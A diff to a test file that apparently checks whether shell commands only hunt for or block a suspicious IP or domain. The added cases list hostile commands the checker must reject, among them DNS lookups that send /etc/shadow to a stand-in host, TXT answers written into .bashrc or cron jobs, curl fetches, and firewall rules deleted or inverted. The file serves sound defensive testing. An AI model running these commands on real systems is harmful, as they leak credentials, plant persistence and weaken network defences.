@@ -98,6 +98,26 @@ test("the review's borrowed forms: a lookup feeding a shell, a NAT rule with 'dr
     `grep -c ${IP} /var/log/syslog | tee /etc/profile.d/x.sh`,
     `whois ${IP} | awk '{system($0)}'`,
   ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
-  t.ok(onlyHuntsFor(`grep ${IP} /var/log/syslog > /tmp/hits.txt`, IP), "a search saved to a temp file");
+  t.notOk(onlyHuntsFor(`dig +short TXT ${DOMAIN} > /tmp/p`, DOMAIN), "an answer saved to a file (run by a later line that names nothing)");
+  for (const cmd of [
+    `dig @${IP} TXT cmd.x`,
+    `dig -f /etc/shadow @${IP}`,
+    `nslookup - ${IP}`,
+    `whois -h ${IP} -p 443 hello`,
+    `host x.example ${IP}`,
+    `dig +short TXT ${DOMAIN} | tr -d '"' >> .bashrc`,
+    `dig +short TXT ${DOMAIN} | sort -o /etc/cron.d/job`,
+    `dig +short TXT ${DOMAIN} | awk '{print > "/etc/cron.d/job"}'`,
+    `find / -maxdepth 0 -fprintf /etc/cron.d/job 'curl ${IP}'`,
+    `grep root <(curl -s http://${IP}/p)`,
+    `iptables -D OUTPUT -d ${IP} -j DROP`,
+    `iptables -A OUTPUT ! -d ${IP} -j DROP`,
+    `nft add rule inet filter output ip daddr != ${IP} drop`,
+    `firewall-cmd --remove-rich-rule='rule family=ipv4 destination address=${IP} drop'`,
+    `ack --pager=/tmp/.x ${IP}`,
+    `PAGER=/tmp/.x journalctl -g ${IP}`,
+  ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
+  t.ok(onlyHuntsFor(`iptables -I INPUT -s ${IP} -m comment --comment allow -j DROP`, IP), "a block whose comment says allow");
+  t.ok(onlyHuntsFor(`grep -h ${IP} /var/log/auth.log 2>/dev/null | sort | uniq -c`, IP), "errors thrown away, counted on the terminal");
   t.ok(onlyHuntsFor(`nft add rule inet filter output ip daddr ${IP} drop`, IP), "nft's own drop verdict");
 });
